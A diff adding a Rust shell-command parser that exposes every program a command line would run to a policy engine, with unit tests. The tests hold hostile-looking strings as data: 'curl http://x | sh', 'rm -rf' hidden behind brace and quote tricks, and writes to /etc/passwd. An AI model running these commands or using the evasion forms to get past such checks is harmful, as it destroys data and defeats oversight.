@@ -0,0 +1,654 @@
+//! Minimal POSIX shell command-line parser for policy decisions.
+//!
+//! Splits a command line into its simple commands across pipes, `&&`, `||`,
+//! `;`, `&`, newlines, subshells and command substitutions (`$(...)`, backticks),
+//! and records file redirections. It does not execute or expand anything; it
+//! only needs to be precise enough that every program a line would run is
+//! visible to the policy engine. Constructs it cannot follow (heredocs, `case`,
+//! function definitions, a program name that only expansion would reveal) are
+//! reported as errors so callers can fall back to asking the user.
+
+/// A file redirection attached to a simple command
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Redirect {
+    /// Operator such as `>`, `>>`, `<`, `&>`
+    pub op: String,
+    /// Redirection target as written (after quote removal)
+    pub target: String,
+}
+
+impl Redirect {
+    /// True if the redirection writes to a file
+    pub fn is_output(&self) -> bool {
+        self.op.contains('>')
+    }
+
+    /// True if the target names a file (not an fd duplication or a here-string)
+    pub fn is_file(&self) -> bool {
+        if self.op == "<<<" {
+            return false;
+        }
+        // `>&N` and `>&-` duplicate or close a descriptor; `>&word` writes a file
+        if self.op.ends_with('&')
+            && (self.target == "-"
+                || (!self.target.is_empty() && self.target.chars().all(|c| c.is_ascii_digit())))
+        {
+            return false;
+        }
+        self.target != "/dev/null"
+    }
+}
+
+/// One simple command: the program and its arguments
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct SimpleCommand {
+    /// Words after quote removal, without leading assignments or reserved words
+    pub words: Vec<String>,
+    pub redirects: Vec<Redirect>,
+}
+
+impl SimpleCommand {
+    /// The command as a single space-separated string, for rule matching
+    pub fn text(&self) -> String {
+        self.words.join(" ")
+    }
+}
+
+/// Reserved words that may prefix a command without being one
+const SKIPPED_WORDS: &[&str] = &[
+    "!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "time",
+];
+
+/// Parse a command line into the simple commands it would run
+pub fn parse(input: &str) -> Result<Vec<SimpleCommand>, String> {
+    let chars: Vec<char> = input.chars().collect();
+    let mut parser = Parser {
+        chars,
+        pos: 0,
+        out: Vec::new(),
+        current: SimpleCommand::default(),
+        word: None,
+        word_expands: false,
+        expands: Vec::new(),
+        pending_redirect: None,
+        depth: 0,
+    };
+    parser.run()?;
+    Ok(parser.out)
+}
+
+struct Parser {
+    chars: Vec<char>,
+    pos: usize,
+    out: Vec<SimpleCommand>,
+    current: SimpleCommand,
+    word: Option<String>,
+    /// The word being read goes through expansion (variables, `$'...'`,
+    /// braces, substitutions), so its final text is not what we see
+    word_expands: bool,
+    /// `word_expands` for each word of `current`
+    expands: Vec<bool>,
+    pending_redirect: Option<String>,
+    depth: usize,
+}
+
+impl Parser {
+    fn peek(&self, offset: usize) -> Option<char> {
+        self.chars.get(self.pos + offset).copied()
+    }
+
+    fn push_char(&mut self, c: char) {
+        self.word.get_or_insert_with(String::new).push(c);
+    }
+
+    fn push_str(&mut self, s: &str) {
+        self.word.get_or_insert_with(String::new).push_str(s);
+    }
+
+    fn finish_word(&mut self) {
+        let expands = std::mem::take(&mut self.word_expands);
+        let Some(word) = self.word.take() else {
+            return;
+        };
+        if let Some(op) = self.pending_redirect.take() {
+            self.current.redirects.push(Redirect { op, target: word });
+        } else {
+            self.current.words.push(word);
+            self.expands.push(expands);
+        }
+    }
+
+    fn finish_command(&mut self) -> Result<(), String> {
+        self.finish_word();
+        if let Some(op) = &self.pending_redirect {
+            return Err(format!("missing redirection target after '{}'", op));
+        }
+        let mut cmd = std::mem::take(&mut self.current);
+        let expands = std::mem::take(&mut self.expands);
+
+        // Drop reserved words and leading NAME=value assignments
+        let mut skip = 0;
+        while skip < cmd.words.len() {
+            let w = &cmd.words[skip];
+            if SKIPPED_WORDS.contains(&w.as_str()) || is_assignment(w) {
+                skip += 1;
+            } else {
+                break;
+            }
+        }
+        cmd.words.drain(..skip);
+        if expands.get(skip) == Some(&true) {
+            return Err(format!(
+                "the program name '{}' depends on expansion",
+                cmd.words[0]
+            ));
+        }
+
+        match cmd.words.first().map(|w| w.as_str()) {
+            Some("case") | Some("function") | Some("select") => {
+                return Err(format!("unsupported shell construct '{}'", cmd.words[0]));
+            }
+            // A `for x in ...` header runs nothing itself (substitutions are already recorded)
+            Some("for") => cmd.words.clear(),
+            _ => {}
+        }
+
+        if !cmd.words.is_empty() || !cmd.redirects.is_empty() {
+            self.out.push(cmd);
+        }
+        Ok(())
+    }
+
+    /// Parse a nested command line (substitution body) and record its commands
+    fn nested(&mut self, body: &str) -> Result<(), String> {
+        let inner = parse(body)?;
+        self.out.extend(inner);
+        Ok(())
+    }
+
+    /// Record the commands of substitutions inside an arithmetic expansion body;
+    /// the arithmetic itself runs nothing
+    fn arithmetic(&mut self, body: &str) -> Result<(), String> {
+        let mut inner = Parser {
+            chars: body.chars().collect(),
+            pos: 0,
+            out: Vec::new(),
+            current: SimpleCommand::default(),
+            word: None,
+            word_expands: false,
+            expands: Vec::new(),
+            pending_redirect: None,
+            depth: 0,
+        };
+        while inner.pos < inner.chars.len() {
+            let c = inner.chars[inner.pos];
+            match c {
+                '\\' => inner.pos += 2,
+                '$' | '`' if inner.substitution()? => {}
+                _ => inner.pos += 1,
+            }
+        }
+        self.out.extend(inner.out);
+        Ok(())
+    }
+
+    /// Find the index of the `)` closing a `$(` or `(` that starts before `start`
+    fn matching_paren(&self, start: usize) -> Result<usize, String> {
+        let mut depth = 1;
+        let mut i = start;
+        while i < self.chars.len() {
+            match self.chars[i] {
+                '\\' => i += 1,
+                '\'' => {
+                    i += 1;
+                    while i < self.chars.len() && self.chars[i] != '\'' {
+                        i += 1;
+                    }
+                }
+                '"' => {
+                    i += 1;
+                    while i < self.chars.len() && self.chars[i] != '"' {
+                        if self.chars[i] == '\\' {
+                            i += 1;
+                        }
+                        i += 1;
+                    }
+                }
+                '(' => depth += 1,
+                ')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return Ok(i);
+                    }
+                }
+                _ => {}
+            }
+            i += 1;
+        }
+        Err("unterminated '$('".to_string())
+    }
+
+    /// Handle `$(...)`, `$((...))` and backticks at the current position
+    fn substitution(&mut self) -> Result<bool, String> {
+        let c = self.chars[self.pos];
+        if c == '$' && self.peek(1).is_some_and(expands_after_dollar) {
+            self.word_expands = true;
+        }
+        if c == '`' {
+            self.word_expands = true;
+            let start = self.pos + 1;
+            let mut i = start;
+            while i < self.chars.len() && self.chars[i] != '`' {
+                if self.chars[i] == '\\' {
+                    i += 1;
+                }
+                i += 1;
+            }
+            if i >= self.chars.len() {
+                return Err("unterminated backtick".to_string());
+            }
+            let body: String = self.chars[start..i].iter().collect();
+            self.nested(&body)?;
+            self.push_str(&format!("`{}`", body));
+            self.pos = i + 1;
+            return Ok(true);
+        }
+        if c == '$' && self.peek(1) == Some('(') {
+            let arithmetic = self.peek(2) == Some('(');
+            let start = self.pos + 2;
+            let end = self.matching_paren(start)?;
+            let body: String = self.chars[start..end].iter().collect();
+            if arithmetic {
+                self.arithmetic(&body)?;
+            } else {
+                self.nested(&body)?;
+            }
+            self.push_str(&format!("$({})", body));
+            self.pos = end + 1;
+            return Ok(true);
+        }
+        Ok(false)
+    }
+
+    fn run(&mut self) -> Result<(), String> {
+        while self.pos < self.chars.len() {
+            let c = self.chars[self.pos];
+            match c {
+                ' ' | '\t' => {
+                    self.finish_word();
+                    self.pos += 1;
+                }
+                '\n' | ';' => {
+                    if c == ';' && self.peek(1) == Some(';') {
+                        return Err("unsupported shell construct ';;'".to_string());
+                    }
+                    self.finish_command()?;
+                    self.pos += 1;
+                }
+                '#' if self.word.is_none() => {
+                    while self.pos < self.chars.len() && self.chars[self.pos] != '\n' {
+                        self.pos += 1;
+                    }
+                }
+                '\\' => {
+                    if let Some(next) = self.peek(1) {
+                        if next != '\n' {
+                            self.push_char(next);
+                        }
+                    }
+                    self.pos += 2;
+                }
+                '\'' => {
+                    let start = self.pos + 1;
+                    let Some(len) = self.chars[start..].iter().position(|&ch| ch == '\'') else {
+                        return Err("unterminated single quote".to_string());
+                    };
+                    let s: String = self.chars[start..start + len].iter().collect();
+                    self.push_str(&s);
+                    self.pos = start + len + 1;
+                }
+                '"' => {
+                    self.pos += 1;
+                    self.word.get_or_insert_with(String::new);
+                    loop {
+                        let Some(ch) = self.peek(0) else {
+                            return Err("unterminated double quote".to_string());
+                        };
+                        match ch {
+                            '"' => {
+                                self.pos += 1;
+                                break;
+                            }
+                            '\\' => {
+                                match self.peek(1) {
+                                    Some(n @ ('"' | '\\' | '$' | '`')) => self.push_char(n),
+                                    Some('\n') => {}
+                                    Some(n) => {
+                                        self.push_char('\\');
+                                        self.push_char(n);
+                                    }
+                                    None => return Err("unterminated double quote".to_string()),
+                                }
+                                self.pos += 2;
+                            }
+                            '$' | '`' => {
+                                if !self.substitution()? {
+                                    self.push_char(ch);
+                                    self.pos += 1;
+                                }
+                            }
+                            _ => {
+                                self.push_char(ch);
+                                self.pos += 1;
+                            }
+                        }
+                    }
+                }
+                '$' | '`' => {
+                    if !self.substitution()? {
+                        self.push_char(c);
+                        self.pos += 1;
+                    }
+                }
+                '|' => {
+                    self.finish_command()?;
+                    self.pos += match self.peek(1) {
+                        Some('|') | Some('&') => 2,
+                        _ => 1,
+                    };
+                }
+                '&' => match self.peek(1) {
+                    Some('&') => {
+                        self.finish_command()?;
+                        self.pos += 2;
+                    }
+                    Some('>') => {
+                        self.finish_word();
+                        let op = if self.peek(2) == Some('>') {
+                            "&>>"
+                        } else {
+                            "&>"
+                        };
+                        self.pos += op.len();
+                        self.pending_redirect = Some(op.to_string());
+                    }
+                    _ => {
+                        self.finish_command()?;
+                        self.pos += 1;
+                    }
+                },
+                '(' => {
+                    if self.word.is_some() || !self.current.words.is_empty() {
+                        return Err("unsupported shell construct '('".to_string());
+                    }
+                    self.depth += 1;
+                    self.pos += 1;
+                }
+                ')' => {
+                    if self.depth == 0 {
+                        return Err("unbalanced ')'".to_string());
+                    }
+                    self.finish_command()?;
+                    self.depth -= 1;
+                    self.pos += 1;
+                }
+                '>' | '<' if self.peek(1) == Some('(') => self.process_substitution()?,
+                '>' | '<' => self.redirect()?,
+                '{' if self.brace_expansion() => {
+                    self.word_expands = true;
+                    self.push_char(c);
+                    self.pos += 1;
+                }
+                _ => {
+                    self.push_char(c);
+                    self.pos += 1;
+                }
+            }
+        }
+
+        if self.depth != 0 {
+            return Err("unbalanced '('".to_string());
+        }
+        self.finish_command()
+    }
+
+    /// Handle `<(...)` and `>(...)`: the body runs, and the word becomes a
+    /// file name only known at run time
+    fn process_substitution(&mut self) -> Result<(), String> {
+        let start = self.pos + 2;
+        let end = self.matching_paren(start)?;
+        let body: String = self.chars[start..end].iter().collect();
+        self.nested(&body)?;
+        self.word_expands = true;
+        self.push_str(&format!("{}({})", self.chars[self.pos], body));
+        self.pos = end + 1;
+        Ok(())
+    }
+
+    /// Whether the unquoted `{` at the current position opens a brace
+    /// expansion (`{a,b}` or `{1..3}`) within the current word
+    fn brace_expansion(&self) -> bool {
+        let mut depth = 0;
+        let mut list = false;
+        let mut prev = '{';
+        for &ch in &self.chars[self.pos..] {
+            let dots = prev == '.' && ch == '.';
+            prev = ch;
+            match ch {
+                '{' => depth += 1,
+                '}' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        return list;
+                    }
+                }
+                ',' if depth == 1 => list = true,
+                '.' if depth == 1 && dots => list = true,
+                ' ' | '\t' | '\n' | ';' | '|' | '&' | '<' | '>' | '(' | ')' => return false,
+                _ => {}
+            }
+        }
+        false
+    }
+
+    fn redirect(&mut self) -> Result<(), String> {
+        // A word made only of digits right before the operator is an fd number
+        if let Some(w) = &self.word {
+            if !w.is_empty() && w.chars().all(|ch| ch.is_ascii_digit()) {
+                self.word = None;
+                self.word_expands = false;
+            }
+        }
+        self.finish_word();
+        if self.pending_redirect.is_some() {
+            return Err("missing redirection target".to_string());
+        }
+
+        let c = self.chars[self.pos];
+        let rest: String = self.chars[self.pos..].iter().take(3).collect();
+        let op = if c == '<' {
+            if rest.starts_with("<<<") {
+                "<<<"
+            } else if rest.starts_with("<<") {
+                return Err("heredocs are not supported".to_string());
+            } else if rest.starts_with("<&") {
+                "<&"
+            } else if rest.starts_with("<>") {
+                "<>"
+            } else {
+                "<"
+            }
+        } else if rest.starts_with(">>") {
+            ">>"
+        } else if rest.starts_with(">&") {
+            ">&"
+        } else if rest.starts_with(">|") {
+            ">|"
+        } else {
+            ">"
+        };
+        self.pos += op.len();
+        self.pending_redirect = Some(op.to_string());
+        Ok(())
+    }
+}
+
+/// Whether `$` followed by `next` expands (a parameter, `${`, `$'`, `$"`
+/// or a substitution) rather than standing for itself
+fn expands_after_dollar(next: char) -> bool {
+    next.is_ascii_alphanumeric() || "_{('\"@*#?$!-".contains(next)
+}
+
+fn is_assignment(word: &str) -> bool {
+    let Some((name, _)) = word.split_once('=') else {
+        return false;
+    };
+    let mut chars = name.chars();
+    matches!(chars.next(), Some(c) if c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn texts(input: &str) -> Vec<String> {
+        parse(input).unwrap().iter().map(|c| c.text()).collect()
+    }
+
+    #[test]
+    fn test_simple_command() {
+        assert_eq!(texts("git status"), vec!["git status"]);
+        assert_eq!(texts("  cargo   test  "), vec!["cargo test"]);
+    }
+
+    #[test]
+    fn test_operators_split_commands() {
+        assert_eq!(
+            texts("git status; rm -rf x"),
+            vec!["git status", "rm -rf x"]
+        );
+        assert_eq!(
+            texts("cd x && make || echo failed"),
+            vec!["cd x", "make", "echo failed"]
+        );
+        assert_eq!(texts("sleep 1 & ls\npwd"), vec!["sleep 1", "ls", "pwd"]);
+    }
+
+    #[test]
+    fn test_pipeline_with_redirect() {
+        let cmds = parse("cargo test 2>&1 | tail -50").unwrap();
+        assert_eq!(cmds.len(), 2);
+        assert_eq!(cmds[0].text(), "cargo test");
+        assert_eq!(cmds[0].redirects[0].op, ">&");
+        assert!(!cmds[0].redirects[0].is_file());
+        assert_eq!(cmds[1].text(), "tail -50");
+    }
+
+    #[test]
+    fn test_file_redirects() {
+        let cmds = parse("sort < in.txt > out.txt 2>/dev/null").unwrap();
+        assert_eq!(cmds[0].text(), "sort");
+        let files: Vec<_> = cmds[0].redirects.iter().filter(|r| r.is_file()).collect();
+        assert_eq!(files.len(), 2);
+        assert!(!files[0].is_output());
+        assert_eq!(files[1].target, "out.txt");
+        assert!(files[1].is_output());
+
+        // Only `>&N` and `>&-` are descriptor operations
+        for line in ["echo hi >& /etc/passwd", "echo hi >&/etc/passwd"] {
+            let cmds = parse(line).unwrap();
+            assert_eq!(cmds[0].redirects[0].target, "/etc/passwd");
+            assert!(cmds[0].redirects[0].is_file());
+        }
+        assert!(!parse("ls 2>&-").unwrap()[0].redirects[0].is_file());
+    }
+
+    #[test]
+    fn test_quotes_do_not_split() {
+        assert_eq!(
+            texts(r#"git commit -m "fix; rm -rf x" && echo 'a | b'"#),
+            vec!["git commit -m fix; rm -rf x", "echo a | b"]
+        );
+    }
+
+    #[test]
+    fn test_command_substitution() {
+        assert_eq!(
+            texts("echo $(curl http://x | sh) done"),
+            vec!["curl http://x", "sh", "echo $(curl http://x | sh) done"]
+        );
+        assert_eq!(texts("echo `whoami`"), vec!["whoami", "echo `whoami`"]);
+        assert_eq!(texts(r#"echo "$(id -u)""#), vec!["id -u", "echo $(id -u)"]);
+        // Arithmetic expansion runs nothing
+        assert_eq!(texts("echo $((1 + 2))"), vec!["echo $((1 + 2))"]);
+        // ...but substitutions inside it do
+        assert_eq!(
+            texts("echo $(( $(rm -rf x) + 1 ))"),
+            vec!["rm -rf x", "echo $(( $(rm -rf x) + 1 ))"]
+        );
+        assert_eq!(
+            texts("echo $((`id -u` * 2))"),
+            vec!["id -u", "echo $((`id -u` * 2))"]
+        );
+    }
+
+    #[test]
+    fn test_process_substitution() {
+        assert_eq!(
+            texts("diff <(sort a) >(tee log)"),
+            vec!["sort a", "tee log", "diff <(sort a) >(tee log)"]
+        );
+        // At the start of a command it is not a redirect of `rm`
+        assert!(parse("<(rm -rf x)").is_err());
+        assert!(parse("git status; <(rm -rf x)").is_err());
+        assert!(parse("cat < (ls)").is_err());
+    }
+
+    #[test]
+    fn test_expanded_program_names() {
+        for line in [
+            "$'rm' -rf x",
+            "{rm,-rf,x}",
+            "$CMD -rf x",
+            "${CMD:-rm} -rf x",
+            "\"$CMD\" x",
+            "X=1 $(echo rm) -rf x",
+            "`echo rm` x",
+            "ls; {r,}m -rf x",
+            "{1..3}",
+        ] {
+            assert!(parse(line).is_err(), "{}", line);
+        }
+        // Expansion in arguments, literal `$` and brace groups are fine
+        assert_eq!(texts("echo $HOME {a,b} x$"), vec!["echo $HOME {a,b} x$"]);
+        assert_eq!(texts("'$x' y"), vec!["$x y"]);
+        assert_eq!(texts("{ ls; }"), vec!["ls"]);
+        assert_eq!(texts("git log {}"), vec!["git log {}"]);
+    }
+
+    #[test]
+    fn test_subshell_and_groups() {
+        assert_eq!(texts("(cd sub && make) ; ls"), vec!["cd sub", "make", "ls"]);
+        assert_eq!(texts("{ ls; pwd; }"), vec!["ls", "pwd"]);
+    }
+
+    #[test]
+    fn test_assignments_and_reserved_words() {
+        assert_eq!(texts("RUST_LOG=debug cargo run"), vec!["cargo run"]);
+        assert_eq!(
+            texts("if test -f x; then rm x; fi"),
+            vec!["test -f x", "rm x"]
+        );
+        assert_eq!(texts("for f in a b; do wc -l $f; done"), vec!["wc -l $f"]);
+    }
+
+    #[test]
+    fn test_unsupported_constructs() {
+        assert!(parse("cat <<EOF\nhi\nEOF").is_err());
+        assert!(parse("case x in a) ls;; esac").is_err());
+        assert!(parse("echo 'unterminated").is_err());
+        assert!(parse("(ls").is_err());
+        assert!(parse("ls >").is_err());
+    }
+}